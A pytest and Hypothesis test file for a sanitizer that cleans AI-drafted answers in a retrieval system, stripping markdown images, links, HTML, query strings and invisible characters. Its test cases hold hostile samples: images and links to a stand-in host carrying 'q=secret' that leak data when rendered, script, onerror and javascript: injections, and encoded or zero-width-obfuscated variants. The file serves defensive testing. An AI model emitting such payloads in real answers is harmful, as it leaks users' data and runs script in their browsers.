from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.clean import strip_invisible
from rag.sanitize import DraftSanitizer, is_loaded, sanitize


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("See ![chart](https://evil.example/p?q=secret) now", "See chart now"),
        ("![](https://evil.example/p?q=secret)", ""),
        ("Read [the page](https://evil.example/?q=secret).", "Read the page."),
        ("Read [the page](<https://evil.example/a b> 'title').", "Read the page."),
        ("![chart][x] ok\n\n[x]: https://evil.example/secret", "chart ok\n\n"),
        ('A <img src="https://evil.example/?q=secret"> b', "A  b"),
        ("A <a href='//evil.example'>link</a> b", "A link b"),
        ("<script>alert(1)</script>", "alert(1)"),
        ("Go to <https://host.example/a?q=secret#x>.", "Go to https://host.example/a."),
        ("Go to https://user:secret@host.example/a?q=secret!", "Go to https://host.example/a!"),
        ("Go to www.host.example?q=secret", "Go to www.host.example"),
        ("![a![b](https://x.example/1)](https://x.example/2)", "ab"),
        ("<scr<b>ipt>", ""),
        ("<mine/onload=x", "< mine/onload=x"),
    ],
)
def test_what_a_renderer_would_fetch_or_follow_with_data_goes_and_its_text_stays(text: str, expected: str) -> None:
    assert sanitize(text).replace("  ", " ") == expected.replace("  ", " ")


@pytest.mark.parametrize(
    "text",
    [
        "Leave is 20 weeks [1][2].",
        "**Bold**, *slanted* and `code`",
        "- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "a < b and c > d, 3<4",
        "It is at https://intranet.example/policies/leave.",
        "Prices: € 5, naïve café, 日本語",
    ],
)
def test_harmless_answers_stay_as_they_are(text: str) -> None:
    assert sanitize(text) == text


def test_control_bidi_zero_width_and_tag_characters_are_removed() -> None:
    assert strip_invisible("a\u202eb\u200bc\x00d\U000e0041e\ufefff\u2028g\th\r\ni") == "abcdef\ng\th\ni"


PIECES = [
    "![",
    "](",
    ")",
    "[",
    "]",
    "<img src=",
    ">",
    "https://e.example/?q=s",
    "<",
    "a",
    " ",
    "\n",
    "]:",
    "!",
    "<b>",
    "www.",
    "//",
    "@",
    "?",
    "#",
    ".",
]
ANSWERS = st.lists(st.sampled_from(PIECES) | st.text(max_size=4), max_size=30).map("".join)


@given(ANSWERS)
def test_nothing_that_carries_data_survives(text: str) -> None:
    clean = sanitize(text)
    assert "](" not in clean
    assert "![" not in clean
    assert not re.search(r"<[a-zA-Z/!?]", clean)
    assert not re.search(r"(?:https?://|www\.)[^\s<>\"'`)\]]*\?\w", clean)


@given(ANSWERS)
def test_sanitizing_twice_is_sanitizing_once(text: str) -> None:
    clean = sanitize(text)
    assert sanitize(clean) == clean


@given(st.text(st.characters(categories=["L", "N", "Zs"]), max_size=60))
def test_words_and_numbers_are_never_lost(text: str) -> None:
    assert sanitize(text) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("&lt;img src=//evil.example/?q=secret&gt; b", " b"),
        ("&amp;lt;b&amp;gt;bold", "bold"),
        ("!&#91;x&#93;(https://evil.example/?q=secret)", "x"),
        ("Go to https://host.example/a&quest;q=secret now", "Go to https://host.example/a now"),
        ("Go to https://host.example/a%3Fq%3Dsecret now", "Go to https://host.example/a now"),
        ("Go to ht\u200btps://host.example/a?q=secret now", "Go to https://host.example/a now"),
        ("Run JavaScript:alert(1)", "Run JavaScript: alert(1)"),
        ("See data:text/html;base64,PHNjcmlwdD4=", "See data: text/html;base64,PHNjcmlwdD4="),
        ("Fish &amp; chips, AT&T", "Fish & chips, AT&T"),
    ],
)
def test_what_is_written_in_entities_or_percent_signs_is_read_first(text: str, expected: str) -> None:
    assert sanitize(text) == expected


@pytest.mark.parametrize(
    "markdown",
    [
        "The fee is 3 euros ![](https://e.example/?q=s).",
        "![chart][x]",
        "![a ![b](c)](d)",
        "<IMG SRC=x>",
        "<img\nsrc=x onerror=y>",
        "&lt;svg/onload=x&gt;",
        "<i\u200bmg src=x>",
        "<b style='background:url(//e.example)'>a</b>",
        '<td background="//e.example/x">',
        "[a](javascript:alert(1))",
        "<iframe src=//e.example>",
    ],
)
def test_what_a_renderer_loads_or_runs_by_itself_is_known(markdown: str) -> None:
    assert is_loaded(markdown)


@pytest.mark.parametrize(
    "markdown",
    [
        "Leave is 20 weeks![1]",
        "a < b",
        "Read [the page](https://e.example/a).",
        "| a<br>b |",
        "<b>bold</b>",
        "JavaScript: a language",
    ],
)
def test_plain_markup_and_links_load_nothing(markdown: str) -> None:
    assert not is_loaded(markdown)


def drafted(pieces: list[str]) -> str:
    draft = DraftSanitizer()
    return "".join([*map(draft.feed, pieces), draft.close()])


@given(
    st.lists(
        st.sampled_from([*PIECES, "密", "&#91;", "&lt;", "\u200b", "http", "s:/", "/", "w", "ww."])
        | st.text(max_size=3),
        max_size=25,
    )
)
def test_nothing_that_carries_data_survives_in_a_draft_however_its_pieces_are_cut(pieces: list[str]) -> None:
    shown = drafted(pieces)
    assert "](" not in shown
    assert "![" not in shown
    assert "]:" not in shown
    assert not re.search(r"<[a-zA-Z/!?]", shown)
    assert not re.search(r"(?:https?://|www\.)[^\s<>\"'`)\]]*\?\w", shown)


@given(st.lists(st.text(st.characters(categories=["L", "N", "Zs"]), max_size=8), max_size=12))
def test_a_draft_keeps_its_words(pieces: list[str]) -> None:
    assert drafted(pieces) == "".join(pieces)


def test_a_draft_is_shown_word_by_word() -> None:
    draft = DraftSanitizer()
    assert [draft.feed(piece) for piece in ("Lea", "ve is", " 20 ", "weeks")] == ["", "Leave ", "is 20 ", ""]
    assert draft.close() == "weeks"
